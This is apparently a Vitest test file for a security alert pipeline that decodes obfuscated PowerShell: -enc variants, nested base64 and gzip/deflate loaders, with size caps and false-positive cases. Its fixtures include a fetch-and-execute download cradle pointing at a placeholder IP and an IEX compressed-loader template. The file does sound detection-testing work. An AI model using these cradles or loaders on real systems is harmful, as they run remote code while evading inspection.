import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { inflateStart } from '../../functions/alert/pipeline/inflate-start.ts';
import { payloadOf, utf16 } from './payload-of.ts';

describe('what is encoded', () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.5/n.ps1')";
  it.each(['-e', '-ec', '-EN', '-enc', '/encodedcommand', '\u2013e'])('is decoded behind %s', name => {
    expect(payloadOf(`powershell ${name} ${utf16(script)}`).decoded).toMatchObject([
      { kind: 'powershell', encoding: 'utf-16le', depth: 1, text: script },
    ]);
  });
  it('is decoded twice, and no deeper', () => {
    const deep = (text: string) => `x('${btoa(text)}')`;
    const { decoded } = payloadOf(deep(deep(deep('Get-Date | Out-Null'))));
    expect(decoded.map(({ depth, encoding }) => [depth, encoding])).toEqual([
      [1, 'utf-8'],
      [2, 'utf-8'],
    ]);
  });
  it.each([
    'C:\\Windows\\System32\\WindowsPowerShell\\v1',
    'd41d8cd98f00b204e9800998ecf8427e',
    '/a/very/long/unix/path/that/is/not/base64',
    'A'.repeat(64),
    btoa('\x00\x01\xfe\xff\x80'.repeat(20)),
    '='.repeat(100),
  ])('is not found in %s', text => expect(payloadOf(text).decoded).toEqual([]));
  it('is decoded as far as 64 KiB', () => {
    const echo = (times: number) => 'echo hello '.repeat(times);
    const { decoded, isPartial } = payloadOf([utf16(echo(1_000)), btoa(echo(2_000))]);
    expect(decoded.length).toBe(2);
    expect([isPartial, decoded.every(({ text }) => text.length <= 65_536)]).toEqual([false, true]);
  });
  const loader = (bytes: Buffer, end = '=') =>
    `powershell -c IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([Convert]::FromBase64String('${bytes.toString('base64').replace(/=+$/, end)}'))))`;
  it.each([
    ['gzip', gzipSync(script)],
    ['zlib', deflateSync(script)],
    ['raw deflate', deflateRawSync(script)],
    ['UTF-16LE in raw deflate', deflateRawSync(Buffer.from(script, 'utf16le'))],
    ['gzip without its end', gzipSync(script).subarray(0, -9)],
  ])('is inflated where it is %s', (_, bytes) => {
    const [layer] = payloadOf(loader(bytes)).decoded;
    expect(layer).toMatchObject({ kind: 'base64', depth: 1, isCompressed: true });
    expect(script.startsWith(layer!.text.slice(0, 60))).toBe(true);
  });
  it('is inflated as far as 64 KiB, and in the second layer too', () => {
    const long = gzipSync(`${script}${'#'.repeat(50_000_000)}`);
    expect(long.length).toBeGreaterThan(40_000);
    const large = gzipSync(`${script} ${'x y '.repeat(50_000)}`).toString('base64');
    const { decoded, isPartial } = payloadOf(`a('${large}')`);
    expect([decoded.length, decoded[0]!.isCut, isPartial]).toEqual([1, true, true]);
    expect(decoded[0]!.text.length).toBeLessThanOrEqual(65_536);
    expect(decoded[0]!.text.length).toBeGreaterThan(60_000);
    const twice = payloadOf(`powershell -enc ${utf16(loader(gzipSync(script)))}`).decoded;
    expect(twice.map(({ isCompressed }) => isCompressed)).toEqual([false, true]);
    expect(inflateStart(long, 65_536)!.bytes.length).toBeLessThanOrEqual(65_536);
  });
  const bytesOf = (byteAt: (at: number) => number) =>
    Buffer.from(Array.from({ length: 400 }, (_, at) => byteAt(at)));
  const damaged = Buffer.concat([gzipSync(script).subarray(0, 20), Buffer.alloc(40, 0xee)]);
  it.each([
    ['random bytes', bytesOf(at => (at * 7919 + (at >> 3) * 104_729) & 255)],
    ['compressed random bytes', gzipSync(bytesOf(at => (at * at * 31) & 255))],
    ['gzip of which the middle is damaged', damaged],
  ])('is left where it is %s', (_, bytes) => expect(payloadOf(loader(bytes)).decoded).toEqual([]));
});
